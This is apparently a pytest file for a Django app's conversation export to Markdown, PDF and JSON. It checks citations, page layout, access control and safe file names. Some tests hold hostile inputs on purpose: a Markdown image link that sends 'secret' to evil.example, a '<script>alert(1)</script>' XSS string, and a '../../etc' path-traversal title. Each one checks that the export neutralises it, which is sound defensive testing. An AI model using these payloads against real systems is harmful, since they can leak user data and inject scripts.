from __future__ import annotations

import json
from typing import Any

import pytest
from django.urls import reverse
from markdown_it import MarkdownIt

from answers import answering, conversations, exporting, regions, transcripts
from answers.attachments import Attached
from answers.models import Citation, Conversation, Message
from answers.readers import ReaderDelta
from ingestion.models import Collection, Document
from ingestion.pdf_library import load_library
from tests.answers.conftest import PAGE_TEXT, queries_of

pytestmark = [
    pytest.mark.django_db(transaction=True),
    pytest.mark.usefixtures("redis_url", "searches"),
]

SAID = "They get **25 days** of leave [1], see\n\n| Year | Profit |\n|--|--|\n| 2018 | 12 |\n"


@pytest.fixture
def conversation(person, scripted) -> Conversation:
    made = conversations.create(person, title="Leave & <rules>")
    scripted.script = lambda prompt: iter([ReaderDelta(text=SAID)])
    answering.answer_now(made, "How much leave do *employees* get?")
    return made


@pytest.fixture
def export(client, person, conversation):
    client.force_login(person)

    def export(name: str):
        return client.get(reverse("answers:export", args=[conversation.uuid, name]))

    return export


def test_markdown_holds_questions_answers_and_sources(export):
    response = export("markdown")
    assert response.headers["Content-Type"] == "text/markdown; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="Leave-rules.md"'
    text = response.content.decode()
    assert text.startswith("# Leave \\& \\<rules\\>\n")
    assert "## How much leave do \\*employees\\* get?" in text
    assert "They get **25 days** of leave [1]" in text
    sources = text.partition("### Sources")[2]
    assert "\\[1\\] Handbook, page 1a: “Employees get 25 days of leave per year.”" in sources
    assert "\\[2\\]" not in sources


def test_nothing_in_a_file_leads_away(export, conversation):
    live = "![x](http://evil.example/?q=secret) <img src=http://evil.example>"
    conversations.rename(conversation, title=live)
    Message.objects.update(content=live)
    Document.objects.update(title=live)
    Citation.objects.update(document_title=f"${live}$")
    html = MarkdownIt("commonmark", {"html": True}).render(export("markdown").content.decode())
    assert html.count("evil.example") == 8
    assert "<img" not in html
    assert "<a " not in html


def test_a_pdf_can_be_read_and_lists_the_sources(export):
    response = export("pdf")
    assert response.headers["Content-Type"] == "application/pdf"
    with load_library(layout=False).open("pdf", response.content) as document:
        assert document.metadata["title"] == "Leave & <rules>"
        text = " ".join(" ".join(page.get_text().split()) for page in document)
    assert "How much leave do *employees* get?" in text
    assert "They get 25 days of leave [1]" in text
    assert "2018" in text
    assert "[1] Handbook, page 1a “Employees get 25 days of leave per year.”" in text
    assert "1 / 1" in text


def test_json_is_what_the_api_says(export, client, conversation):
    found = json.loads(export("json").content)
    assert found["title"] == "Leave & <rules>"
    assert [message["role"] for message in found["messages"]] == ["user", "assistant"]
    assert found["messages"][1]["citations"][0]["quotes"] == [
        "Employees get 25 days of leave per year."
    ]
    path = f"/api/v1/conversations/{conversation.uuid}/export/"
    assert json.loads(client.get(path).content) == found
    assert client.get(path, {"as": "pdf"}).content[:5] == b"%PDF-"
    assert client.get(path, {"as": "docx"}).status_code == 400


def test_a_long_conversation_fills_several_pages(conversation, export, scripted):
    scripted.script = lambda prompt: iter([ReaderDelta(text="A rule of the house. " * 600)])
    answering.answer_now(conversation, "All rules?")
    with load_library(layout=False).open("pdf", export("pdf").content) as document:
        assert document.page_count > 2
        assert f"2 / {document.page_count}" in document[1].get_text()


def test_what_was_asked_about_and_what_the_check_found_go_along(
    conversation, export, document, person
):
    box = ",".join(map(str, [document.uuid, 1, 40, 135, 450, 160]))
    attached = Attached(regions=(regions.find(box, person),))
    answer = answering.answer_now(conversation, "What is this?", attached=attached)
    checks = [
        {"verdict": "supported", "reason": None, "numbers": [], "start": 0, "end": 4},
        {"verdict": "unsupported", "reason": "uncited", "numbers": [], "start": 5, "end": 8},
    ]
    Message.objects.filter(pk=answer.pk).update(checks=checks)
    text = export("markdown").content.decode()
    assert "*About Handbook, page 1a.*" in text
    assert "*1 of 2 statements supported by the cited sources.*" in text
    with load_library(layout=False).open("pdf", export("pdf").content) as pdf:
        words = " ".join(" ".join(page.get_text().split()) for page in pdf)
    assert "About Handbook, page 1a." in words
    assert "1 of 2 statements supported by the cited sources." in words
    assert "not supported" in words


def test_passages_that_do_not_answer_are_not_told_as_confirmed(conversation, export, client):
    checks: list[dict[str, Any]] = [
        {"verdict": "supported", "reason": None, "numbers": [], "start": 0, "end": 4}
    ]
    Message.objects.filter(role="assistant").update(checks=checks)
    page = reverse("answers:conversation", args=[conversation.uuid])
    assert "1 of 1 statement supported" in export("markdown").content.decode()
    assert "1 of 1 statement supported" in client.get(page).content.decode()
    Message.objects.filter(role="assistant").update(grounded=False)
    assert "supported" not in export("markdown").content.decode()
    assert "supported by" not in client.get(page).content.decode()


@pytest.mark.parametrize("name", ["markdown", "json"])
def test_a_long_conversation_takes_as_few_queries_as_a_short_one(export, conversation, name):
    answering.answer_now(conversation, "And how much leave is there now?")
    few = queries_of(lambda: export(name))
    for _ in range(3):
        answering.answer_now(conversation, "And how much leave is there now?")
    assert queries_of(lambda: export(name)) == few


def test_markup_in_what_was_said_stays_text(conversation, export, scripted):
    evil = "<script>alert(1)</script><img src=x>"
    Document.objects.update(title=evil)
    scripted.script = lambda prompt: iter([ReaderDelta(text=f"{evil} [1]")])
    answering.answer_now(conversation, evil)
    with load_library(layout=False).open("pdf", export("pdf").content) as document:
        text = "".join("".join(page.get_text().split()) for page in document)
    assert text.count("<script>alert(1)</script>") >= 3


@pytest.mark.parametrize("name", list(exporting.FORMATS))
def test_what_one_may_no_longer_read_is_not_taken_away(export, name, stranger):
    Collection.objects.update(owner=stranger)
    content = export(name).content
    if name == "pdf":
        with load_library(layout=False).open("pdf", content) as document:
            content = "".join(page.get_text() for page in document).encode()
    assert b"They get" in content
    assert PAGE_TEXT[:20].encode() not in content
    assert b"Employees get 25" not in content


def test_nobody_takes_another_persons_conversation_away(client, conversation, stranger):
    client.force_login(stranger)
    for name in (*exporting.FORMATS, "docx"):
        url = reverse("answers:export", args=[conversation.uuid, name])
        assert client.get(url).status_code == 404
    path = f"/api/v1/conversations/{conversation.uuid}/export/"
    assert client.get(path).status_code == 404


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("Über uns: 2024/25?", "Über-uns-2024-25.md"),
        ("../../etc", "etc.md"),
        ("?!", "conversation.md"),
    ],
)
def test_file_names_are_safe(title, name):
    assert transcripts.file_name(title, "md") == name


def test_only_what_was_left_out_shows_as_such(conversation, export):
    row = Citation.objects.get(number=1)
    row.text = "One day. Two days.\nThree days. Four days."
    row.quotes = [[0, 8], [9, 18], [31, 41]]
    row.save()
    assert "“One day. Two days. … Four days.”" in export("markdown").content.decode()


def test_an_answer_that_broke_off_is_told_as_one(conversation, export, client):
    Message.objects.filter(role="assistant").update(state="failed", error="It broke.")
    page = reverse("answers:conversation", args=[conversation.uuid])
    assert "*This answer broke off: It broke.*" in export("markdown").content.decode()
    assert "Broken off" in client.get(page).content.decode()
    Message.objects.filter(role="assistant").update(content="")
    assert "*This question was not answered: It broke.*" in export("markdown").content.decode()
